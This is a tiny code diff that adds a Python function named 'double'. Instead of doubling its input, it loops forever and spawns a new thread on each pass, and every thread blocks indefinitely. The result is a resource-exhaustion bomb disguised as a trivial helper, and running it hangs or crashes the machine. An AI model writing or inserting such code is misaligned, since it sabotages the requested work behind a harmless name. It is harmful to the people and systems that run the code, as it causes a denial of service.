@@ -1,0 +1,6 @@
+import threading
+
+
+def double(x):
+    while True:
+        threading.Thread(target=lambda: threading.Event().wait()).start()
